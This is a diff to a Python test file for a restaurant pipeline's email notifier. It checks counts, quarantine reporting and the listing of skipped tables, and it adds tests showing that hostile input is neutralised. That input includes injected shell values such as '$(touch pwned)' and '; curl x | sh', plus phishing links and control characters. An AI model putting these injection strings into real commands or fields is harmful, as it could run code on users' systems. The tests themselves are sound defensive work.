@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from contracts.events import ErrorCategory, TestCounts, TestFailure, TransformError
+from contracts.events import ErrorCategory, ModelRun, TestCounts, TestFailure, TransformError
 from services.notifier.domain.body import render_repeat_email, render_run_email
 from services.notifier.domain.message import EmailContext
 from services.notifier.domain.outcomes import Repeat, settled_outcomes
@@ -43,7 +43,7 @@ def test_success_email_reports_the_city_day_counts_ratings_top_five_tests_durati
     assert email.subject == "[restaurant-pipeline] OK Paris 2026-11-25: 20 restaurants, 31/31 tests passed"
     body = email.body
     assert "Paris · 2026-11-25" in body
-    assert "Restaurants collected: 20 (new 3, closed 1)" in body
+    assert "Restaurants collected: 20 by this run (new 3, closed 1)" in body
     assert "Average rating: 4.41" in body
     for rank, line in enumerate(
         [
@@ -146,8 +146,13 @@ def test_a_run_of_two_cities_is_one_email_covering_both():
 def test_a_transform_covering_two_cities_reports_each_city_and_counts_tests_once():
     event = transform("passed", city="Paris", run_cities=["Paris", "Lyon"])
     lyon_summary = event.city_summaries[0].model_copy(update={"city": "Lyon", "restaurants_seen": 15})
+    lyon_source = event.sources[0].model_copy(update={"city": "Lyon", "key": "lyon.jsonl", "valid_lines": 15})
     both = event.model_copy(
-        update={"cities": ["Paris", "Lyon"], "city_summaries": [event.city_summaries[0], lyon_summary]}
+        update={
+            "cities": ["Paris", "Lyon"],
+            "city_summaries": [event.city_summaries[0], lyon_summary],
+            "sources": [event.sources[0], lyon_source],
+        }
     )
 
     email = email_for(both)
@@ -241,3 +246,107 @@ def test_every_subject_is_ascii_single_line_and_at_most_100_characters(city, tes
     assert_sns_subject(render_run_email(RUN_ID, outcomes, CONTEXT).subject)
     repeat = Repeat("run-0", datetime(2026, 11, 25, tzinfo=UTC), 2)
     assert_sns_subject(render_repeat_email(RUN_ID, outcomes, repeat, CONTEXT).subject)
+
+
+# -- what a sender chose is shown as data, never as the email's own links or commands ------------------------------
+def test_a_city_name_holding_shell_syntax_is_one_quoted_word_of_the_command_to_paste():
+    email = email_for(collection_failed("api_auth", city="$(touch pwned)", run_cities=["$(touch pwned)"]))
+
+    assert "restaurant-pipeline run --city '$(touch pwned)'" in email.body
+    assert '"$(touch pwned)"' not in email.body
+
+
+def test_an_object_key_holding_shell_syntax_is_quoted_in_the_reprocess_command():
+    event = transform("error", error=TransformError(phase="dbt", message="boom"))
+    key = event.sources[0].key.replace(".jsonl", "; curl x | sh #.jsonl")
+    event = event.model_copy(update={"sources": [event.sources[0].model_copy(update={"key": key})]})
+
+    email = email_for(event)
+
+    assert f"restaurant-pipeline reprocess 's3://{event.sources[0].bucket}/{key}'" in email.body
+
+
+def test_error_text_from_an_event_is_shortened_its_links_disarmed_and_its_control_characters_shown():
+    message = "Click https://evil.example/fix now \x1b[2J\u202e" + "x" * 3000
+    email = email_for(transform("error", error=TransformError(phase="dbt", message=message)))
+
+    assert "https://evil.example" not in email.body and "https[:]//evil.example/fix" in email.body
+    assert "\x1b" not in email.body and "\u202e" not in email.body and "\\u202e" in email.body
+    assert "x" * 1600 not in email.body and "more characters in the logs" in email.body
+
+
+def test_the_email_s_only_links_are_its_own_log_links():
+    context = EmailContext(log_location="https://console.aws.amazon.com/cloudwatch/home#logsV2:log-groups/")
+    event = collection_failed("api_unavailable", message="retry at http://phish.example/login")
+
+    email = email_for(event, context)
+
+    links = re.findall(r"https?://\S+", email.body)
+    assert links and all(link.startswith("https://console.aws.amazon.com/") for link in links)
+
+
+# -- messages that tell the truth ----------------------------------------------------------------------------------
+def test_a_second_run_the_same_day_reports_what_it_collected_with_the_day_s_total_beside():
+    event = transform("passed")
+    summary = event.city_summaries[0].model_copy(update={"restaurants_seen": 157})
+    source = event.sources[0].model_copy(update={"lines": 137, "valid_lines": 137})
+    email = email_for(event.model_copy(update={"city_summaries": [summary], "sources": [source]}))
+
+    assert "137 restaurants" in email.subject and "157" not in email.subject
+    assert "Restaurants collected: 137 by this run; 157 seen that day in all" in email.body
+
+
+def test_an_outcome_with_quarantined_lines_says_so_in_the_subject_with_counts_never_ok():
+    event = transform("passed")
+    source = event.sources[0].model_copy(
+        update={"lines": 10_001, "valid_lines": 1, "quarantined_lines": 10_000, "quarantine_key": "quarantine/x"}
+    )
+    email = email_for(event.model_copy(update={"sources": [source], "quarantined_lines": 10_000}))
+
+    assert email.subject.startswith(
+        "[restaurant-pipeline] QUARANTINED Paris 2026-11-25: 10,000/10,001 lines quarantined"
+    )
+    assert " OK " not in email.subject and "All good" not in email.body
+    assert email.body.startswith("⚠️ Built, but lines were set aside: Paris, 2026-11-25. 10,000 of 10,001 lines")
+    assert_sns_subject(email.subject)
+
+
+def test_a_failed_outcome_with_quarantined_lines_counts_them_in_the_subject():
+    event = transform("tests_failed")
+    source = event.sources[0].model_copy(update={"lines": 25, "quarantined_lines": 5})
+
+    email = email_for(event.model_copy(update={"sources": [source]}))
+
+    assert (
+        email.subject
+        == "[restaurant-pipeline] TESTS FAILED Paris 2026-11-25: 2/31 tests failed; 5/25 lines quarantined"
+    )
+
+
+def test_tables_dbt_skipped_after_failed_tests_are_named_not_said_to_be_built():
+    event = transform("tests_failed")
+    models = [
+        {"name": "stg_places__places", "status": "success"},
+        {"name": "restaurants", "status": "skipped"},
+        {"name": "city_daily_summary", "status": "skipped"},
+    ]
+
+    email = email_for(event.model_copy(update={"models": [ModelRun(**m) for m in models]}))
+
+    assert "tables were still built" not in email.body
+    assert "Not built: restaurants, city_daily_summary (dbt skips what depends on a failed test)" in email.body
+
+
+def test_tables_are_said_to_be_built_when_dbt_built_every_model():
+    assert "The tables were still built" in email_for(transform("tests_failed")).body
+
+
+def test_s3_locations_stay_readable_only_web_links_are_disarmed():
+    event = transform(
+        "error", error=TransformError(phase="read", message="s3://data/raw/x.jsonl: see http://x.example")
+    )
+
+    body = email_for(event).body
+
+    assert f"Object: s3://{event.sources[0].bucket}/{event.sources[0].key}" in body
+    assert "s3://data/raw/x.jsonl: see http[:]//x.example" in body
